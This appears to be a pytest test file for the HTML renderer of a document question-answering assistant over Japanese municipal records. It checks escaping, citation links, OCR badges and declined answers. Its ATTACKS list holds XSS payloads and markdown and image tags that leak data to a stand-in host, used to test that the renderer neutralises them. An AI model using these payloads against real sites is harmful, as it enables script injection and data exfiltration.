import html
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from fake_assistant import FakeAssistant, cite
from hypothesis import given
from hypothesis import strategies as st

from assistant.answers import Answer, Passage, Sentence, Status, Verdict, Widening
from assistant.ui.render import (
    Listed,
    Shown,
    answer_html,
    documents_html,
    earlier_html,
    escape,
    message_html,
    panel_html,
    sources_html,
    transcript_html,
    turn_html,
)
from ingest.documents import DocumentMetadata

TAGS = {
    "a",
    "article",
    "b",
    "blockquote",
    "br",
    "details",
    "div",
    "h2",
    "header",
    "i",
    "li",
    "mark",
    "p",
    "section",
} | {
    "strong",
    "span",
    "summary",
    "ul",
}
ATTRIBUTES = {"class", "href", "id", "role", "tabindex"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://leak.example/?q=secret'>",
    "![x](http://leak.example/?q=secret)",
    "[here](http://leak.example/)",
    "[1](javascript:alert(1))",
    "<form action=//leak.example><input name=q></form>",
    "<div style='position:fixed;inset:0'>",
    "http://leak.example/ www.leak.example leak@leak.example",
    '" onmouseover="alert(1)',
    "`code` **bold** __bold__ ~~gone~~ | a | b |",
    "# heading\n\n- item\n\n    code\n\n---\n",
    "${alert(1)} {{value}} {% raw %} $$x$$ \\(x\\)",
    "</div></section></blockquote><h1>",
    "&lt;b&gt; &#58; &colon;",
    "<!-- comment --> <![CDATA[x]]> <?php ?>",
    '<a href="#cite-0-1" class="cite">[1]</a>',
]
HOSTILE = st.sampled_from(ATTACKS) | st.text(max_size=60)


class Reader(HTMLParser):
    """Collects what a browser would build: elements, links, text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.ids: list[str] = []
        self.words = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        assert {name for name, _ in attrs} <= ATTRIBUTES
        named = dict(attrs)
        self.links += [named["href"] or ""] if "href" in named else []
        self.ids += [named["id"] or ""] if "id" in named else []
        if tag == "br":
            self.words += "\n"

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def whole_page(text: str) -> str:
    """Every rendering with the text in every field that a document, a model or a reader can fill."""
    citation = replace(
        cite(1, "plan.txt", "観光"),
        document=text,
        title=text,
        section=text,
        speaker=text,
        quote=text,
        verdict=Verdict.UNPROVED,
        reason=text,
    )
    passage = Passage("c", text, "d", text, text, text, 3, 0, 1, text, 0.5)
    answer = Answer(
        text, Status.PARTIAL, (Sentence(text, (1, 2)),), (citation,), (passage,), standalone=text + "。", notice=text
    )
    declined = Answer(text, Status.DECLINED, (Sentence(text),), retrieved=(passage,), notice=text + "!")
    sources = sources_html(answer, [Shown(citation, text, text, text)], 0)
    metadata = DocumentMetadata(text, issuer=text, date=text)
    return "".join(
        [
            transcript_html([turn_html(text, answer_html(answer, 0)), turn_html(text, answer_html(declined, 1))]),
            panel_html(sources_html(declined, [], 1), [earlier_html(text, sources)]),
            documents_html([Listed(text, metadata)]),
            message_html(text),
        ]
    )


@given(HOSTILE)
def test_no_text_becomes_an_element_a_link_or_an_attribute(text: str) -> None:
    page = whole_page(text)
    reader = Reader(page)
    assert set(reader.links) == {"#cite-0-1", "#conversation"}
    assert reader.ids == ["cite-0-1"]
    assert "\n\n" not in page  # Markdown leaves an HTML block there


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_shown_as_the_text_they_are(attack: str) -> None:
    assert attack.replace("\n", "<br>") in html.unescape(escape(attack))
    assert Reader(turn_html(attack, "")).words == attack
    for active in "[]!`*_~$\\{}|@":
        assert active not in escape(attack)
    assert ":" not in escape(attack)
    assert "www." not in escape(attack)


@given(st.text())
def test_escaped_text_reads_as_it_was_written(text: str) -> None:
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    assert html.unescape(escape(lines).replace("<br>", "\n")) == html.unescape(html.escape(lines))


def test_only_numbers_with_a_citation_become_links() -> None:
    answer = Answer(
        "問", Status.ANSWERED, (Sentence("町は[9]を示した。", (1, 7)),), (cite(1, "plan.txt", "観光入込客数"),)
    )
    assert Reader(answer_html(answer, 4)).links == ["#cite-4-1"]


def test_every_link_of_an_answer_leads_to_a_passage_with_the_quote_marked() -> None:
    assistant = FakeAssistant()
    answer = assistant.ask("観光入込客数")
    shown = [Shown(c, *assistant.surroundings(c)) for c in answer.citations]
    sources = sources_html(answer, shown, 2)
    assert [link[1:] for link in Reader(answer_html(answer, 2)).links] == Reader(sources).ids
    for citation in answer.citations:
        assert f"<mark>{citation.quote}</mark>" in sources
    assert "海辺町観光振興計画" in sources
    assert "第２章 観光の振興" in sources
    assert "12ページ" in sources


def test_the_cell_that_the_answer_rests_on_is_set_off_in_its_row() -> None:
    assistant = FakeAssistant()
    citation = assistant.ask("観光入込客数").citations[0]
    middle = citation.start + 2, citation.start + 5
    shown = Shown(replace(citation, marked=(middle,)), *assistant.surroundings(citation))
    quote = citation.quote
    expected = f"<mark>{quote[:2]}<strong>{quote[2:5]}</strong>{quote[5:]}</mark>"
    answer = assistant.ask("観光入込客数")
    assert expected in sources_html(answer, [shown], 2)
    outside = Shown(replace(citation, marked=((0, 10**6),)), *assistant.surroundings(citation))
    assert f"<mark>{quote}</mark>" in sources_html(answer, [outside], 2)


def test_the_speaker_is_named_and_an_unproved_passage_says_why() -> None:
    assistant = FakeAssistant()
    answer = assistant.ask("除雪")
    sources = sources_html(answer, [Shown(c, "", c.quote, "") for c in answer.citations], 0)
    assert "山田町長" in sources
    assert "除雪についての記述ではありません。" in sources
    assert 'class="cite doubtful"' in answer_html(answer, 0)


def test_a_passage_that_ocr_read_has_a_badge_beside_its_page_and_no_other_has_one() -> None:
    badge = '<p class="scanned"><b>文字認識</b>文字認識で読み取った文です。原本をご確認ください。</p>'
    citation = cite(1, "plan.txt", "観光入込客数", page=12)
    answer = Answer("問", Status.ANSWERED, (Sentence("答。", (1,)),), (citation,))
    scanned = replace(citation, ocr=True)
    shown = sources_html(answer, [Shown(scanned, "", scanned.quote, "")], 0)
    assert shown.index("12ページ") < shown.index(badge) < shown.index("<blockquote>")
    assert badge not in sources_html(answer, [Shown(citation, "", citation.quote, "")], 0)
    nearest = FakeAssistant().ask("図書館")
    scans = replace(nearest, retrieved=tuple(replace(p, ocr=True) for p in nearest.retrieved))
    assert sources_html(scans, [], 0).count(badge) == 2


def test_a_declined_answer_shows_the_nearest_passages_without_links() -> None:
    answer = FakeAssistant().ask("図書館は何時に開きますか。")
    reader = Reader(answer_html(answer, 0) + sources_html(answer, [], 0))
    assert reader.links == []
    assert "除排雪の担い手" in reader.words
    assert "質問に近い箇所" in reader.words


def test_how_it_ended_is_not_said_while_the_answer_grows() -> None:
    answer = replace(FakeAssistant().ask("除雪"), notice="注意です。")
    growing, final = answer_html(answer, 0, growing=True), answer_html(answer, 0)
    assert "一部だけ" not in growing
    assert "注意です。" not in growing
    assert "一部だけ" in final
    assert "注意です。" in final


def test_the_resolved_question_is_shown_only_where_it_differs() -> None:
    answer = Answer("前年は？", Status.ANSWERED, (Sentence("八千人です。"),), standalone="令和4年度の観光客は？")
    assert "令和4年度の観光客は？" in answer_html(answer, 0)
    assert "質問の解釈" not in answer_html(replace(answer, standalone="前年は？"), 0)


def test_what_was_searched_as_well_is_shown_only_where_there_is_something() -> None:
    answer = Answer(
        "雪かきは？", Status.ANSWERED, (Sentence("9台です。"),), widenings=(Widening("雪<かき", ("除雪",)),)
    )
    assert "「雪&lt;かき」→「除雪」でも検索しました" in answer_html(answer, 0)
    assert "言い換え" not in answer_html(replace(answer, widenings=()), 0)


def test_a_notice_that_the_answer_repeats_is_shown_once() -> None:
    answer = Answer(
        "問", Status.DECLINED, (Sentence("見当たりません。町名を書いてください。"),), notice="町名を書いてください。"
    )
    assert answer_html(answer, 0).count("町名を書いてください。") == 1


def test_documents_are_listed_with_kind_issuer_and_year_and_an_empty_index_says_the_command() -> None:
    listed = documents_html([Listed(d.path, d.metadata) for d in FakeAssistant().documents()])
    assert all(part in Reader(listed).words for part in ("2件", "会議録", "海辺町", "2024年度", "plan.txt"))
    assert "shirube ingest" in documents_html([])
    assert "ほか100件" in documents_html([Listed(f"{n}.txt", DocumentMetadata(f"文書{n}")) for n in range(600)])
